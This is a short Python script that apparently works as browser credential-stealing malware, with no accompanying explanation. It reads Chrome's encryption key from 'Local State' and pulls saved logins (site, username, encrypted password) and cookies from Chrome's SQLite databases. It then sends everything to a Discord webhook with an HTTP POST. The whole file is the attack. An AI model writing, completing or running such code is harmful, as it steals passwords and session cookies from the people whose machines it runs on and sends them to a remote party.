import json
import os
import shutil
import sqlite3
import tempfile

import requests

WEBHOOK = "https://discord.com/api/webhooks/222222222222222222/defanged"
LOCAL = os.getenv("LOCALAPPDATA", "")
CHROME = os.path.join(LOCAL, "Google", "Chrome", "User Data")


def _rows(db, query):
    copy = os.path.join(tempfile.gettempdir(), "tmp.db")
    shutil.copy2(db, copy)
    with sqlite3.connect(copy) as conn:
        return conn.execute(query).fetchall()


def run():
    state = json.load(open(os.path.join(CHROME, "Local State")))
    key = state["os_crypt"]["encrypted_key"]
    logins = _rows(os.path.join(CHROME, "Default", "Login Data"),
                   "SELECT origin_url, username_value, password_value FROM logins")
    cookies = _rows(os.path.join(CHROME, "Default", "Network", "Cookies"),
                    "SELECT host_key, name, encrypted_value FROM cookies")
    requests.post(WEBHOOK, json={"key": key, "logins": repr(logins), "cookies": repr(cookies)})
